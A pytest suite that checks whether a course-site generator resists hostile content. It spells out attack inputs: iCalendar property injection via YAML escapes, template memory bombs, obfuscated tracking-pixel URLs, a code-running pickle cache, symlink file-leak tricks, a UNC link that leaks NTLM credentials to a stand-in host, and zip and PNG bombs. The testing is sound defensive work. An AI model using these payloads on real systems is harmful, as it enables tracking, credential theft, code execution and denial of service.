"""Content is untrusted input, second round: attacks that tests/test_untrusted_content.py,
test_site_safety.py and test_preview.py do not cover yet. One test per defect, with variants.

The contract is the one stated in README.md ("Content is untrusted input") and in the
editors' format: no content makes the site run script or ask another host for anything,
makes the build run code, stall or eat the machine's memory, reads or writes outside
``content/`` and the output folder, or gets past ``check`` only to crash ``build``.

Every test drives the real command line (click's runner, or a subprocess where time or
memory is measured) on a copy of ``tests/fixtures/site``; builds that several tests read
are made once per module.
"""

from __future__ import annotations

import json
import os
import pickle
import re
import shutil
import signal
import struct
import subprocess
import sys
import zipfile
import zlib
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import pytest

# The helpers both attack suites share, with the same fixture and 'today'.
from .test_untrusted_content import (FIXTURE, TODAY, check, copy_fixture, coursegen_command, errors_at,
                                     replace_in, replace_line, tree_state)

REPO = Path(__file__).resolve().parent.parent
DECK_TEMPLATE = REPO / "generator" / "rendering" / "decks" / "template.pptx"
SITE_URL = "https://kurser.example.org/"
TRACKER = "tracker.example"
BUILD_TIMEOUT = 300


# -- helpers -------------------------------------------------------------------------------------

def no_traceback(output: str, exception: BaseException | None = None) -> None:
    assert "Traceback" not in output, output[-3000:]
    assert exception is None or isinstance(exception, SystemExit), repr(exception)


@dataclass
class Run:
    returncode: int
    output: str
    timed_out: bool = False
    peak_kb: int = 0


# Runs the command below a cap on address space (a runaway build fails instead of taking the
# machine) and reports its exit code, output and peak memory (ru_maxrss of its process tree).
WRAPPER = """
import json, resource, subprocess, sys
limit = int(sys.argv[1])
if limit:
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
done = subprocess.run(sys.argv[2:], capture_output=True, text=True, errors="replace")
print(json.dumps({"rc": done.returncode, "out": done.stdout + done.stderr,
                  "peak_kb": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}))
"""


def run(*args: str, timeout: float = BUILD_TIMEOUT, address_space: int = 0) -> Run:
    """``coursegen ARGS`` in a process group of its own, killed if it overruns ``timeout``."""
    env = {**os.environ, "COURSEGEN_TODAY": TODAY}
    process = subprocess.Popen([sys.executable, "-c", WRAPPER, str(address_space), *coursegen_command(*args)],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env,
                               start_new_session=True)
    try:
        out, err = process.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        os.killpg(process.pid, signal.SIGKILL)
        out, err = process.communicate()
        return Run(-9, out + err, timed_out=True)
    if process.returncode != 0 or not out.strip():
        return Run(process.returncode, out + err)
    report = json.loads(out.strip().splitlines()[-1])
    return Run(report["rc"], report["out"], peak_kb=report["peak_kb"])


def build(content: Path, out: Path, *extra: str, address_space: int = 0) -> Run:
    return run("build", "--content", str(content), "--out", str(out), *extra, address_space=address_space)


def ics_files(site: Path) -> list[Path]:
    return sorted(site.rglob("*.ics"))


def assert_rejected_at(result, content: Path, file: str, line: int) -> None:
    assert result.exit_code == 1, f"check passed content that must be rejected:\n{result.output[-2000:]}"
    assert errors_at(result.output, content, file).get(line), f"no error at {file}:{line}:\n{result.output[-2000:]}"


# -- 1. Control characters written as YAML escapes -----------------------------------------------
#
# check refuses a raw control character (test_untrusted_content covers that), but looks at the
# file's text, not at the values YAML makes of it: in a double-quoted scalar, "\x07", "\0",
# "\x0b", "\r" or "\udc00" are six ASCII characters in the file and a control character (or a
# lone surrogate) in the value. check passes them; the build then crashes with a traceback
# (decks: lxml refuses NUL and VT; site: a surrogate cannot be written as UTF-8; feeds:
# icalendar asserts on a line break in NAME) or, with a lone CR, writes a bare CR into the
# unescaped NAME property of the session feeds: a property injection for clients that end a
# line at CR.

ESCAPE_VARIANTS = {
    # variant: (file, line, new line)
    "bel-escape-in-title": ("modules/frukost.yaml", 2, r'title: {sv: "Frukost\x07möte", en: Breakfast meeting}'),
    "esc-escape-in-venue-name": ("sessions.yaml", 3, r'    name: "Stads\x1b[31mbiblioteket"'),
    "nul-escape-in-title": ("modules/frukost.yaml", 2, r'title: {sv: "Frukost\0möte", en: Breakfast meeting}'),
    "vt-escape-in-title": ("modules/frukost.yaml", 2, r'title: {sv: "Frukost\vmöte", en: Breakfast meeting}'),
    "lone-surrogate-in-title": ("modules/frukost.yaml", 2, r'title: {sv: "Frukost\udc00möte", en: Breakfast meeting}'),
    "crlf-in-title": ("modules/frukost.yaml", 2,
                      r'title: {sv: "Frukost\r\nATTENDEE:mailto:evil@tracker.example", en: Breakfast meeting}'),
    "lf-in-title": ("modules/frukost.yaml", 2, r'title: {sv: "Frukost\nX-INJECTED:1", en: Breakfast meeting}'),
    "cr-in-title": ("modules/frukost.yaml", 2,
                    r'title: {sv: "Frukost\rATTENDEE;CN=Evil:mailto:evil@tracker.example\rX-INJECTED:1", en: Breakfast meeting}'),
    "escape-in-tagline": ("site.yaml", 8, r'  sv: "Vi utbildar\x1b]0;pwned\x07 handledare."'),
}
CONTROL_IN_OUTPUT = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff]")


@pytest.mark.parametrize("variant", sorted(ESCAPE_VARIANTS))
def test_control_characters_written_as_yaml_escapes(variant: str, tmp_path: Path) -> None:
    """A control character made by a YAML escape is refused where it stands, like a raw one;
    or, if check lets the value through, the build succeeds and no feed line holds a bare CR/LF."""
    content = copy_fixture(tmp_path)
    file, line, new = ESCAPE_VARIANTS[variant]
    replace_line(content / file, line, new)
    result = check(content)
    no_traceback(result.output, result.exception)
    if result.exit_code == 1:
        assert errors_at(result.output, content, file).get(line), result.output[-2000:]
        return
    done = build(content, tmp_path / "out")
    assert "Traceback" not in done.output, f"check passed what crashes the build:\n{done.output[-2500:]}"
    assert done.returncode == 0, done.output[-2500:]
    for feed in ics_files(tmp_path / "out" / "site"):
        data = feed.read_bytes().decode("utf-8")
        lines = data.split("\r\n")
        bare = [entry for entry in lines if "\r" in entry or "\n" in entry]
        assert bare == [], f"{feed.name}: a bare line break inside a property: {bare[:3]!r}"
        injected = [entry for entry in lines if entry.startswith(("ATTENDEE", "X-INJECTED"))]
        assert injected == [], f"{feed.name}: a property came from a title: {injected!r}"
        assert not CONTROL_IN_OUTPUT.search(data), f"{feed.name} holds a control character"
    for page in sorted((tmp_path / "out" / "site").rglob("*.html")):
        found = CONTROL_IN_OUTPUT.search(page.read_text(encoding="utf-8"))
        assert not found, f"{page.relative_to(tmp_path / 'out' / 'site')} holds the control character {found.group()!r}"


# -- 2. The sandbox of hand-written pages bounds '*' and '**', but not time or size --------------
#
# Each payload passes check (or fails only after allocating gigabytes) and the build would do
# the same: CI, and the live preview's rebuild, stall or run out of memory.

BOMB_PAGES = {
    "nested-loops": "{% set s = 'x' * 100000 %}{% for a in s %}{% for b in s %}{% endfor %}{% endfor %}",
    "percent-format-width": "{{ ('%0' ~ 10**9 ~ 'd') % 1 }}",
    "str-format-width": "{{ '{:>1000000000}'.format(1) }}",
    "center-filter": "{{ 'x' | center(10**9) | length }}",
    "indent-filter": "{{ 'x' | indent(10**9) | length }}",
    "replace-filter": "{{ ('x' * 100000) | replace('x', 'x' * 20000) | length }}",
    "concat-doubling": "{% set s = 'x' * 100000 %}" + "".join("{% set s = s ~ s %}" for _ in range(14))
                       + "{{ s | length }}",
    "integer-squaring": "{% set a = 2**32 %}" + "".join("{% set a = a * a %}" for _ in range(27)) + "{{ a > 0 }}",
}
BOMB_LINE = 3  # the payload's line in the page (after '# Bomb' and an empty line)
BOMB_TIMEOUT = 30
BOMB_ADDRESS_SPACE = 4 * 1024 ** 3
CHECK_PEAK_KB = 400 * 1024


@pytest.mark.parametrize("variant", sorted(BOMB_PAGES))
def test_page_macros_cannot_stall_or_exhaust_the_build(variant: str, tmp_path: Path) -> None:
    """check refuses the page on its line, quickly and in little memory (no MemoryError, no hang)."""
    content = copy_fixture(tmp_path)
    (content / "pages" / "bomb.sv.md").write_text(f"# Bomb\n\n{BOMB_PAGES[variant]}\n", encoding="utf-8")
    done = run("check", "--content", str(content), timeout=BOMB_TIMEOUT, address_space=BOMB_ADDRESS_SPACE)
    assert not done.timed_out, f"check did not finish within {BOMB_TIMEOUT} s"
    assert "Traceback" not in done.output and "MemoryError" not in done.output, done.output[-2000:]
    assert done.peak_kb < CHECK_PEAK_KB, f"check took {done.peak_kb // 1024} MB"
    assert done.returncode == 1, f"check passed a page that stalls or floods the build:\n{done.output[-2000:]}"
    assert errors_at(done.output, content, "pages/bomb.sv.md").get(BOMB_LINE), done.output[-2000:]


def test_page_macros_have_no_attributes_not_even_format(tmp_path: Path) -> None:
    """macros.py promises that no attribute of any object is reachable; str.format still is."""
    content = copy_fixture(tmp_path)
    (content / "pages" / "format.sv.md").write_text("# Format\n\n{{ '{:>5}|'.format(1) }}\n", encoding="utf-8")
    result = check(content)
    no_traceback(result.output, result.exception)
    assert_rejected_at(result, content, "pages/format.sv.md", 3)


# -- 3. Pictures from another host: the src filter judges the raw value, a browser cleans it -----
#
# A browser removes tabs and newlines anywhere in a URL and C0 controls and spaces at its ends,
# and reads '\' as '/': '/\t/tracker.example/x.png' is '//tracker.example/x.png'.

RAW_IMAGES = {
    "tab-in-double-slash": '<img src="/&#9;/tracker.example/tab.png" alt="a">',
    "newline-in-double-slash": '<img src="/&#10;/tracker.example/newline.png" alt="b">',
    "cr-in-double-slash": '<img src="/&#13;/tracker.example/cr.png" alt="c">',
    "tab-in-scheme": '<img src="h&#9;ttps://tracker.example/scheme.png" alt="d">',
    "leading-control": '<img src="&#1;//tracker.example/control.png" alt="e">',
    "leading-control-scheme": '<img src="&#31;https://tracker.example/control2.png" alt="f">',
    "backslash-slash": '<img src="\\/tracker.example/backslash.png" alt="g">',
    "raw-tab": '<img src="/\t/tracker.example/rawtab.png" alt="h">',
}
MARKDOWN_IMAGES = {
    "markdown-tab-in-scheme": "![i](<h\tttps://tracker.example/md-scheme.png>)",
    "markdown-tab-in-double-slash": "![j](</\t/tracker.example/md-slash.png>)",
    "markdown-reference": "![k][spy]\n\n    [spy]: </\t/tracker.example/md-ref.png>",
}
RAW_PAGE = "pages/bilder.sv.md"
SITE_PAGE = "bilder/index.html"
MODULE_PAGE = "modules/grunddag/index.html"
# Classes our own script acts on: from content they make buttons that copy any address.
SCRIPT_BUTTONS = ('<button type="button" class="cg-copy md-button" hidden data-copy="webcal://tracker.example/fake.ics" '
                  'data-copied="Kopierad">Kopiera kalenderadressen</button>\n\n'
                  '<button type="button" class="cg-print md-button" hidden>Skriv ut</button>\n')


def browser_url(value: str, page: str) -> str:
    """The absolute URL a browser requests for ``value`` on ``page`` (WHATWG URL parsing)."""
    value = value.strip("".join(chr(c) for c in range(0x21)))
    value = re.sub(r"[\t\n\r]", "", value).replace("\\", "/")
    return urljoin(urljoin(SITE_URL, page), value)


class Images(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.sources: list[str] = []
        self.buttons: list[dict[str, str]] = []

    def handle_starttag(self, tag, attrs):
        values = {name: value or "" for name, value in attrs}
        if tag == "img" and "src" in values:
            self.sources.append(values["src"])
        if tag == "button":
            self.buttons.append(values)

    handle_startendtag = handle_starttag


def page_images(site: Path, page: str) -> Images:
    parser = Images()
    parser.feed((site / page).read_text(encoding="utf-8"))
    return parser


@dataclass
class ImageBuild:
    content: Path
    site: Path
    check_exit: int
    check_output: str
    run: Run


@pytest.fixture(scope="module")
def image_build(tmp_path_factory: pytest.TempPathFactory) -> ImageBuild:
    root = tmp_path_factory.mktemp("images")
    content = copy_fixture(root)
    (content / RAW_PAGE).write_text("# Bilder\n\n" + "\n\n".join(RAW_IMAGES.values()) + "\n\n" + SCRIPT_BUTTONS,
                                    encoding="utf-8")
    replace_in(content / "modules" / "grunddag.yaml", "    Under dagen går vi igenom **handledarens roll**.",
               "    " + "\n\n    ".join(MARKDOWN_IMAGES.values()) + "\n\n    Under dagen går vi igenom **handledarens roll**.")
    result = check(content)
    done = build(content, root / "out")
    return ImageBuild(content, root / "out" / "site", result.exit_code, result.output, done)


def built(image_build: ImageBuild) -> Path:
    assert image_build.check_exit == 0, image_build.check_output[-2000:]
    assert image_build.run.returncode == 0, image_build.run.output[-2500:]
    return image_build.site


@pytest.mark.parametrize("variant", sorted(RAW_IMAGES))
def test_raw_picture_in_a_page_asks_no_other_host(variant: str, image_build: ImageBuild) -> None:
    """No <img> of a hand-written page makes the browser ask another host (tracking pixel)."""
    site = built(image_build)
    name = re.search(r"tracker\.example/([a-z0-9-]+\.png)", RAW_IMAGES[variant]).group(1)
    requested = [browser_url(src, SITE_PAGE) for src in page_images(site, SITE_PAGE).sources]
    foreign = [url for url in requested if urlsplit(url).hostname != urlsplit(SITE_URL).hostname and name in url]
    assert foreign == [], f"the page asks another host for a picture: {foreign}"


@pytest.mark.parametrize("variant", sorted(MARKDOWN_IMAGES))
def test_markdown_picture_in_a_yaml_field_asks_no_other_host(variant: str, image_build: ImageBuild) -> None:
    site = built(image_build)
    requested = [browser_url(src, MODULE_PAGE) for src in page_images(site, MODULE_PAGE).sources]
    foreign = [url for url in requested if urlsplit(url).hostname not in (urlsplit(SITE_URL).hostname, None)]
    assert foreign == [], f"the module page asks another host for a picture: {foreign}"


def test_page_cannot_make_the_site_scripts_copy_or_print_buttons(image_build: ImageBuild) -> None:
    """A hand-written page's <button class="cg-copy" data-copy="webcal://..."> would be shown by our
    script as a working 'copy the calendar address' button that copies the attacker's feed."""
    site = built(image_build)
    buttons = page_images(site, SITE_PAGE).buttons
    scripted = [b for b in buttons if {"cg-copy", "cg-print"} & set(b.get("class", "").split())]
    assert scripted == [], f"content made buttons our script arms: {scripted}"
    assert not any(TRACKER in b.get("data-copy", "") for b in buttons)


# -- 4. Output and content folders that overlap --------------------------------------------------
#
# Nothing stops --out inside --content (or the other way round). With the output inside the
# content, a pull request controls the build's caches (see 5: a template cache runs code);
# with the content inside the output, the build swaps its site in over the content folder.

def overlapping(tmp_path: Path, variant: str) -> tuple[Path, Path, Path]:
    """(content, out, the folder whose state must not change)."""
    if variant == "content-is-out-site":
        content = tmp_path / "work" / "site"
        shutil.copytree(FIXTURE, content)
        return content, tmp_path / "work", content
    content = copy_fixture(tmp_path)
    out = {"out-inside-content": content / "modules" / "grunddag" / "out",
           "out-is-content": content,
           "out-in-pages": content / "pages" / "build"}[variant]
    return content, out, content


@pytest.mark.parametrize("variant", ["out-inside-content", "out-is-content", "out-in-pages", "content-is-out-site"])
def test_output_folder_may_not_overlap_the_content(variant: str, tmp_path: Path) -> None:
    """build refuses, naming --out, and leaves the content folder exactly as it was."""
    content, out, guarded = overlapping(tmp_path, variant)
    before = tree_state(guarded)
    done = build(content, out)
    assert "Traceback" not in done.output, done.output[-2500:]
    assert (guarded / "site.yaml").is_file(), "the build replaced the content folder with the site"
    assert tree_state(guarded) == before, f"the build wrote into the content folder: " \
        f"{sorted(set(tree_state(guarded)) ^ set(before))[:10]}"
    assert done.returncode != 0 and "--out" in done.output, done.output[-2500:]


# -- 5. What the build finds in the output folder ------------------------------------------------
#
# The output folder is not content, but whoever can write there (a pull request that commits
# build/, a shared CI workspace, --out inside content/) gets: code run from a planted Jinja
# bytecode cache (Jinja unpickles it), an arbitrary file truncated through a symlinked lock
# file, pages written through a symlinked site-src/, and any file published as a deck through
# a symlinked deck cache entry.

@dataclass
class Previous:
    out: Path  # an output folder a clean build left
    content: Path


@pytest.fixture(scope="module")
def previous(tmp_path_factory: pytest.TempPathFactory) -> Previous:
    root = tmp_path_factory.mktemp("previous")
    content = copy_fixture(root)
    done = build(content, root / "out")
    assert done.returncode == 0, done.output[-2500:]
    return Previous(root / "out", content)


def fresh_output(previous: Previous, tmp_path: Path) -> Path:
    out = tmp_path / "out"
    shutil.copytree(previous.out, out, symlinks=True)
    return out


class Payload:
    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self):
        return (os.system, (f"touch {self.canary}",))


def test_planted_template_cache_runs_no_code(previous: Previous, tmp_path: Path) -> None:
    from jinja2.bccache import bc_magic

    out = fresh_output(previous, tmp_path)
    canary = tmp_path / "CANARY"
    caches = sorted((out / "cache" / "jinja").glob("*.cache"))
    assert caches, "the build keeps no template cache any more: this attack is gone, update the test"
    for cache in caches:
        cache.write_bytes(bc_magic + pickle.dumps(Payload(canary)))
    done = build(previous.content, out, "--force")
    assert not canary.exists(), "a file in the output folder's cache ran a command during the build"
    assert done.returncode == 0, done.output[-2500:]


def test_symlinked_lock_file_is_not_followed(previous: Previous, tmp_path: Path) -> None:
    out = fresh_output(previous, tmp_path)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    lock = out / ".build.lock"
    lock.unlink(missing_ok=True)
    lock.symlink_to(victim)
    done = build(previous.content, out, "--force")
    assert "Traceback" not in done.output, done.output[-2500:]
    assert victim.read_text(encoding="utf-8") == "precious\n", "the build truncated the lock file's target"


def test_symlinked_site_source_folder_is_not_written_through(previous: Previous, tmp_path: Path) -> None:
    out = fresh_output(previous, tmp_path)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    shutil.rmtree(out / "site-src", ignore_errors=True)
    (out / "site-src").symlink_to(elsewhere, target_is_directory=True)
    done = build(previous.content, out, "--force")
    assert "Traceback" not in done.output, done.output[-2500:]
    assert list(elsewhere.iterdir()) == [], f"the build wrote outside the output folder: {list(elsewhere.iterdir())[:5]}"


def test_symlinked_deck_cache_entry_is_not_published(previous: Previous, tmp_path: Path) -> None:
    out = fresh_output(previous, tmp_path)
    secret = tmp_path / "secret.txt"
    secret.write_bytes(b"SECRET-OUTSIDE-THE-OUTPUT-4242")
    entries = sorted((out / "cache" / "decks").glob("*.pptx"))
    assert entries
    for entry in entries:
        entry.unlink()
        entry.symlink_to(secret)
    done = build(previous.content, out, "--force")
    assert "Traceback" not in done.output, done.output[-2500:]
    leaked = [str(p.relative_to(out)) for p in (out / "site").rglob("*.pptx") if b"SECRET-OUTSIDE" in p.read_bytes()]
    assert leaked == [], f"a file outside the output folder was published as a deck: {leaked[:5]}"


# -- 6. The organisation's deck template ---------------------------------------------------------

SPY_PICTURE = (b'<p:pic><p:nvPicPr><p:cNvPr id="99" name="spy"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>'
               b'<p:blipFill><a:blip r:link="rIdSpy"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>'
               b'<p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1" cy="1"/></a:xfrm>'
               b'<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>')
IMAGE_RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
EXTERNAL_TARGETS = {
    # A linked picture: PowerPoint fetches it when the deck is opened; from a UNC path
    # Windows sends the trainer's NTLM credentials to that host.
    "unc-picture": "file://tracker.example/share/spy.png",
    "web-picture": "https://tracker.example/spy.png",
}


def rewrite_template(target: Path, change) -> None:
    target.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(DECK_TEMPLATE) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            out.writestr(item, change(item.filename, source.read(item.filename)))


def template_with_link(target: Path, url: str) -> None:
    def change(name: str, data: bytes) -> bytes:
        if name == "ppt/slideMasters/_rels/slideMaster1.xml.rels":
            return data.replace(b"</Relationships>", (f'<Relationship Id="rIdSpy" Type="{IMAGE_RELATIONSHIP}" '
                                                      f'Target="{url}" TargetMode="External"/></Relationships>').encode())
        if name == "ppt/slideMasters/slideMaster1.xml":
            changed = re.sub(rb"(<p:spTree>.*?</p:grpSpPr>)", lambda m: m.group(1) + SPY_PICTURE, data, count=1, flags=re.S)
            assert changed != data
            return changed
        return data
    rewrite_template(target, change)


@pytest.mark.parametrize("variant", sorted(EXTERNAL_TARGETS))
def test_deck_template_links_to_no_outside_picture(variant: str, tmp_path: Path) -> None:
    """check refuses a template with an external picture, or no published deck carries it."""
    content = copy_fixture(tmp_path)
    template_with_link(content / "templates" / "deck.pptx", EXTERNAL_TARGETS[variant])
    result = check(content)
    no_traceback(result.output, result.exception)
    if result.exit_code == 1:
        assert errors_at(result.output, content, "templates/deck.pptx"), result.output[-2000:]
        return
    done = build(content, tmp_path / "out")
    assert done.returncode == 0, done.output[-2500:]
    decks = sorted((tmp_path / "out" / "site" / "decks").rglob("*.pptx"))
    assert decks
    carrying = []
    for deck in decks:
        with zipfile.ZipFile(deck) as package:
            for member in package.namelist():
                if member.endswith(".rels") and TRACKER.encode() in package.read(member):
                    carrying.append(f"{deck.name}!{member}")
    assert carrying == [], f"published decks link to another host's picture: {carrying[:5]}"


BOMB_BYTES = 400 * 1024 ** 2
TEMPLATE_EXTRA_KB = 300 * 1024


def template_with_bomb(target: Path, extension: str = "jpeg") -> None:
    relationship = (f'<Relationship Id="rIdBomb" Type="{IMAGE_RELATIONSHIP}" '
                    f'Target="../media/bomb.{extension}"/></Relationships>').encode()
    target.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(DECK_TEMPLATE) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "ppt/slideMasters/_rels/slideMaster1.xml.rels":
                data = data.replace(b"</Relationships>", relationship)
            out.writestr(item, data)
        with out.open(f"ppt/media/bomb.{extension}", "w", force_zip64=True) as member:
            zeros = b"\0" * (1 << 24)
            for _ in range(BOMB_BYTES // len(zeros)):
                member.write(zeros)


@pytest.fixture(scope="module")
def plain_build_peak(tmp_path_factory: pytest.TempPathFactory) -> int:
    root = tmp_path_factory.mktemp("peak")
    done = build(copy_fixture(root), root / "out")
    assert done.returncode == 0, done.output[-2500:]
    return done.peak_kb


def test_deck_template_that_inflates_is_refused(tmp_path: Path, plain_build_peak: int) -> None:
    """A 0.4 MB template that inflates to 400 MB: check refuses it, or the build does not hold it in memory."""
    content = copy_fixture(tmp_path)
    template_with_bomb(content / "templates" / "deck.pptx")
    assert (content / "templates" / "deck.pptx").stat().st_size < 2 * 1024 ** 2
    result = check(content)
    no_traceback(result.output, result.exception)
    if result.exit_code == 1:
        assert errors_at(result.output, content, "templates/deck.pptx"), result.output[-2000:]
        return
    done = build(content, tmp_path / "out", address_space=6 * 1024 ** 3)
    assert done.returncode == 0, done.output[-2500:]
    extra = done.peak_kb - plain_build_peak
    assert extra < TEMPLATE_EXTRA_KB, f"a {BOMB_BYTES >> 20} MB template part cost the build {extra // 1024} MB more"


def test_deck_template_that_the_deck_renderer_cannot_open_is_refused_by_check(tmp_path: Path) -> None:
    """A template part without a content type passes check, and build dies with a KeyError traceback."""
    content = copy_fixture(tmp_path)

    def change(name: str, data: bytes) -> bytes:
        if name == "ppt/slideMasters/_rels/slideMaster1.xml.rels":
            return data.replace(b"</Relationships>", (f'<Relationship Id="rIdX" Type="{IMAGE_RELATIONSHIP}" '
                                                      f'Target="../media/x.unknowntype"/></Relationships>').encode())
        return data

    target = content / "templates" / "deck.pptx"
    rewrite_template(target, change)
    with zipfile.ZipFile(target, "a") as package:
        package.writestr("ppt/media/x.unknowntype", b"data")
    result = check(content)
    no_traceback(result.output, result.exception)
    if result.exit_code == 1:
        assert errors_at(result.output, content, "templates/deck.pptx"), result.output[-2000:]
        return
    done = build(content, tmp_path / "out")
    assert "Traceback" not in done.output, f"check passed a template that crashes the build:\n{done.output[-2500:]}"
    assert done.returncode == 0, done.output[-2500:]


# -- 7. Pictures whose header claims a huge size -------------------------------------------------

def png_header(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


SLIDE_IMAGE_LINE = 45  # modules/grunddag.yaml of the fixture: image: modules/grunddag/arbetsplats.png
HUGE_PICTURES = {"30000x30000": (30000, 30000), "65535x65535": (65535, 65535)}


@pytest.mark.parametrize("variant", sorted(HUGE_PICTURES))
def test_picture_with_a_huge_size_is_reported_not_a_traceback(variant: str, tmp_path: Path) -> None:
    """Pillow's DecompressionBombError escapes the image check: check dies with a traceback."""
    content = copy_fixture(tmp_path)
    (content / "modules" / "grunddag" / "huge.png").write_bytes(png_header(*HUGE_PICTURES[variant]))
    replace_line(content / "modules" / "grunddag.yaml", SLIDE_IMAGE_LINE, "    image: modules/grunddag/huge.png")
    result = check(content)
    no_traceback(result.output, result.exception)
    assert_rejected_at(result, content, "modules/grunddag.yaml", SLIDE_IMAGE_LINE)
